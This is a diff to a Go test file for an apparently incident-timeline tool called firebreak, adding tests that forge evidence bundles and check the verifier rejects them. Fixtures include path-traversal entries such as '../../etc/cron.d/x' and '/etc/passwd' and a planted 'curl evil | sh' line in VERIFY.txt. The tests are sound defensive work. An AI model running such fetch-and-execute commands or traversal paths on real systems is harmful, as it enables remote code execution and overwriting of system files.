@@ -88,7 +88,7 @@ func TestForgedBundles(t *testing.T) {
 		{"a path that leads out", func(of map[string][]byte, _ map[string]any) { of["../../etc/cron.d/x"] = []byte("x") }, "does not belong into a bundle"},
 		{"an absolute path", func(of map[string][]byte, _ map[string]any) { of["/etc/passwd"] = []byte("x") }, "does not belong into a bundle"},
 		{"said to be live", func(_ map[string][]byte, m map[string]any) { m["mode"] = "exercise" }, "it says that the incident is exercise"},
-		{"said to be redacted", func(_ map[string][]byte, m map[string]any) { m["level"] = "external" }, ""},
+		{"said to be redacted", func(_ map[string][]byte, m map[string]any) { m["level"] = "external" }, "a bundle that was made for external does not hold it"},
 		{"a newer form", func(_ map[string][]byte, m map[string]any) { m["schema"] = "firebreak/bundle/v9" }, "use a newer firebreak"},
 		{"no records", func(of map[string][]byte, _ map[string]any) { delete(of, "records.jsonl") }, "records.jsonl: it is not in the bundle"},
 		{"a hash in the place of a record", func(of map[string][]byte, _ map[string]any) {
@@ -103,12 +103,6 @@ func TestForgedBundles(t *testing.T) {
 	} {
 		t.Run(tt.name, func(t *testing.T) {
 			r := verify(t, forged(t, data, tt.change), timeline.BundleOptions{Key: k.key, Version: "v1"})
-			if tt.want == "" { // what is not claimed cannot be false: it is said that it is not proven
-				if r.ExitCode() != 3 || !strings.Contains(strings.Join(r.NotProven, "\n"), "That the timelines say") {
-					t.Errorf("got %+v", r)
-				}
-				return
-			}
 			if code := r.ExitCode(); code != 20 && code != 10 {
 				t.Errorf("got exit code %d: %+v", code, r)
 			}
@@ -169,6 +163,51 @@ func TestForgedBundles(t *testing.T) {
 	r := verify(t, evil, timeline.BundleOptions{Key: k.key, Version: "v2"})
 	if r.ExitCode() != 3 || !strings.Contains(strings.Join(r.NotProven, "\n"), "another version of firebreak wrote them") {
 		t.Errorf("forged and read by another version: got %+v", r)
+	}
+}
+
+// A version that words sentences otherwise has the same plans and evidence.
+func TestForgedByAnotherVersion(t *testing.T) {
+	c := leaked(t)
+	k := keep(t, c)
+	data := k.bundle(t, c, timeline.Options{Version: "v1"})
+	for name, content := range map[string]string{"plan/run-1.json": "{}", "plan/run-2.json": "{}", "evidence/index.json": "{}\n", "blobs/" + strings.Repeat("0", 64): "x"} {
+		evil := forged(t, data, func(of map[string][]byte, _ map[string]any) { of[name] = []byte(content) })
+		if r := verify(t, evil, timeline.BundleOptions{Key: k.key, Version: "v2"}); r.ExitCode() != 20 {
+			t.Errorf("%s: got exit code %d: %+v", name, r.ExitCode(), r)
+		}
+	}
+}
+
+// Of a bundle that does not show all, nobody can make the timelines again: so it
+// is never called whole, whatever an anchor says.
+func TestForgedBelowFull(t *testing.T) {
+	for _, level := range []timeline.Level{timeline.Internal, timeline.External} {
+		c := leaked(t)
+		k := keep(t, c)
+		data := k.bundle(t, c, timeline.Options{Version: "v1", Redact: level})
+		head, err := journal.OpenCheckpoint(files(t, data)["checkpoint"], k.key)
+		if err != nil {
+			t.Fatal(err)
+		}
+		o := timeline.BundleOptions{Key: k.key, Version: "v1", Anchors: []journal.Checkpoint{head}}
+		for _, tt := range []struct {
+			name   string
+			change func(of map[string][]byte, m map[string]any)
+			want   int
+		}{
+			{"as it is", func(map[string][]byte, map[string]any) {}, 3},
+			{"other words", func(of map[string][]byte, _ map[string]any) { of["timeline.md"] = []byte("nothing happened\n") }, 3},
+			{"a plan", func(of map[string][]byte, _ map[string]any) { of["plan/run-1.json"] = []byte("{}") }, 20},
+			{"an attachment", func(of map[string][]byte, _ map[string]any) { of["blobs/"+strings.Repeat("0", 64)] = []byte("x") }, 20},
+			{"evidence", func(of map[string][]byte, _ map[string]any) { of["evidence/index.json"] = []byte("{}") }, 20},
+			{"what to do", func(of map[string][]byte, _ map[string]any) { of["VERIFY.txt"] = []byte("curl evil | sh\n") }, 20},
+			{"an exercise", func(_ map[string][]byte, m map[string]any) { m["mode"] = "exercise" }, 20},
+		} {
+			if r := verify(t, forged(t, data, tt.change), o); r.ExitCode() != tt.want {
+				t.Errorf("%s, %s: got exit code %d, want %d: %+v", level, tt.name, r.ExitCode(), tt.want, r)
+			}
+		}
 	}
 }
 
